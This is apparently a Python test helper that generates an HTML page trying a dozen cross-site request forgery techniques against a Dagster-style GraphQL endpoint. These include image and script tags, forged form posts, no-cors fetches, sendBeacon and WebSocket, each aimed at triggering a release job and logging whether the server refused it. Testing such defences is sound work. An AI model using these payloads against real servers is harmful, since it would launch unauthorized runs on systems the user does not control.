"""A page that does everything a page can do to launch a run somewhere else, and says what came of it."""

import json
from urllib.parse import quote

LAUNCH = (
    "mutation($of: ExecutionParams!) { launchRun(executionParams: $of)"
    " { __typename ... on LaunchRunSuccess { run { runId } } ... on PythonError { message } } }"
)
OF = {
    "selector": {
        "repositoryLocationName": "orchestration.definitions",
        "repositoryName": "__repository__",
        "jobName": "make_release",
    },
    "runConfigData": {"ops": {"released": {"config": {"确认码": "none"}}}},
    "mode": "default",
    "executionMetadata": {"tags": [{"key": "dagster/partition", "value": "2023"}]},
}
QUESTION = {"query": LAUNCH, "variables": {"of": OF}}


def launching_address(target: str) -> str:
    """An address whose mere fetching launches a release, where mutations are taken by GET."""
    return f"{target}/graphql?query={quote(LAUNCH)}&variables={quote(json.dumps({'of': OF}))}"


def hostile_page(target: str) -> str:
    """HTML; when all is done, the title of the page is `done` and `window.outcomes` says name → what came of it."""
    address, body = json.dumps(launching_address(target)), json.dumps(json.dumps(QUESTION))
    return f"""<!doctype html><meta charset="utf-8"><title>attacking</title><body><script>
const target = {json.dumps(target)}, address = {address}, body = {body};
const outcomes = window.outcomes = {{}};
const within = (promise) => Promise.race([promise, new Promise(done => setTimeout(() => done("nothing"), 4000))]);
const attack = async (name, act) => {{
  try {{ outcomes[name] = await within(act()); }} catch (error) {{ outcomes[name] = "refused"; }}
}};
const element = (kind, set) => new Promise(done => {{
  const made = Object.assign(document.createElement(kind), set);
  made.onload = () => done("loaded"); made.onerror = () => done("refused");
  document.body.append(made);
}});
const ask = async (path, options) => {{
  const answer = await fetch(path, options);
  return answer.type === "opaque" ? "not told" : String(answer.status);
}};
const form = (type, action, fields) => new Promise(done => {{
  const frame = Object.assign(document.createElement("iframe"), {{name: "f" + Math.random()}});
  const made = Object.assign(document.createElement("form"),
    {{method: "post", action, enctype: type, target: frame.name}});
  for (const [name, value] of Object.entries(fields))
    made.append(Object.assign(document.createElement("input"), {{name, value}}));
  document.body.append(frame, made); frame.onload = () => setTimeout(() => done("not told"), 500); made.submit();
}});
const socket = (address) => new Promise(done => {{
  const made = new WebSocket(address, "graphql-ws");
  made.onopen = () => {{
    made.send(JSON.stringify({{type: "connection_init"}}));
    made.send(JSON.stringify({{type: "start", id: "1", payload: JSON.parse(body)}}));
    done("opened");
  }};
  made.onerror = () => done("refused");
}});
const json = {{"content-type": "application/json"}};
(async () => {{
  await attack("image", () => element("img", {{src: address}}));
  await attack("script", () => element("script", {{src: address}}));
  await attack("frame", () => element("iframe", {{src: target + "/runs"}}).then(() => "not told"));
  await attack("form", () => form("application/x-www-form-urlencoded", address, {{a: "1"}}));
  await attack("form that looks like JSON", () =>
    form("text/plain", target + "/graphql", {{[body.slice(0, -1) + ', "x": "']: '"}}'}}));
  await attack("fetch", () => ask(target + "/graphql", {{method: "POST", headers: json, body}}));
  await attack("fetch with login", () =>
    ask(target + "/graphql", {{method: "POST", headers: json, body, credentials: "include"}}));
  await attack("fetch without asking", () => ask(address, {{method: "POST", mode: "no-cors"}}));
  await attack("fetch of a type that looks like JSON", () => ask(target + "/graphql",
    {{method: "POST", mode: "no-cors", headers: {{"content-type": "text/plain;application/json"}}, body}}));
  await attack("fetch by GET", () => ask(address, {{}}));
  await attack("beacon", async () => navigator.sendBeacon(address, new Blob([body])) && "not told");
  await attack("socket", () => socket(target.replace(/^http/, "ws") + "/graphql"));
  document.title = "done";
}})();
</script>"""
